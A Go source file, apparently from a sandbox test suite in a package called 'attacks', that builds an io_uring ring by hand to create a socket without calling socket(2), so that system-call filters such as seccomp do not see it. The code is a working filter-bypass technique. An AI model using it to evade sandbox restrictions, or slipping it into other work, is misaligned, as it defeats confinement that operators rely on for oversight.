package attacks

import (
	"encoding/binary"
	"errors"
	"unsafe"

	"golang.org/x/sys/unix"
)

// uringSocket makes a socket without socket(2): by an entry in a ring that is
// shared with the kernel, which no filter of system calls sees (io_uring(7)).
func uringSocket(domain, kind int) error {
	const (
		entries   = 4
		opSocket  = 45
		getEvents = 1
		sqeSize   = 64
		sqesAt    = 0x10000000
		oneMmap   = 1
	)
	var params [120]byte // struct io_uring_params
	ring, err := rawSyscall(unix.SYS_IO_URING_SETUP, entries, pointer(&params[0]))
	if err != nil {
		return err
	}
	defer unix.Close(int(ring))
	le := binary.LittleEndian
	if le.Uint32(params[20:])&oneMmap == 0 {
		return errors.ErrUnsupported
	}
	sq, cq := params[40:], params[80:] // struct io_sqring_offsets, io_cqring_offsets
	shared, err := unix.Mmap(int(ring), 0, 1<<14, unix.PROT_READ|unix.PROT_WRITE, unix.MAP_SHARED|unix.MAP_POPULATE)
	if err != nil {
		return err
	}
	sqes, err := unix.Mmap(int(ring), sqesAt, entries*sqeSize, unix.PROT_READ|unix.PROT_WRITE, unix.MAP_SHARED|unix.MAP_POPULATE)
	if err != nil {
		return err
	}
	sqes[0] = opSocket
	le.PutUint32(sqes[4:], uint32(domain)) // fd
	le.PutUint64(sqes[8:], uint64(kind))   // off; len and flags stay 0
	word := func(at uint32) *uint32 { return (*uint32)(unsafe.Pointer(&shared[at])) }
	*word(le.Uint32(sq[24:])) = 0 // array[0]
	*word(le.Uint32(sq[4:]))++    // tail
	if _, err := rawSyscall(unix.SYS_IO_URING_ENTER, ring, 1, 1, getEvents); err != nil {
		return err
	}
	cqe := shared[le.Uint32(cq[20:]):] // struct io_uring_cqe: user_data, res
	res := int32(le.Uint32(cqe[8:]))
	if res < 0 {
		return unix.Errno(-res)
	}
	name, err := unix.Getsockname(int(res))
	if name == nil {
		return err
	}
	return unix.Close(int(res))
}
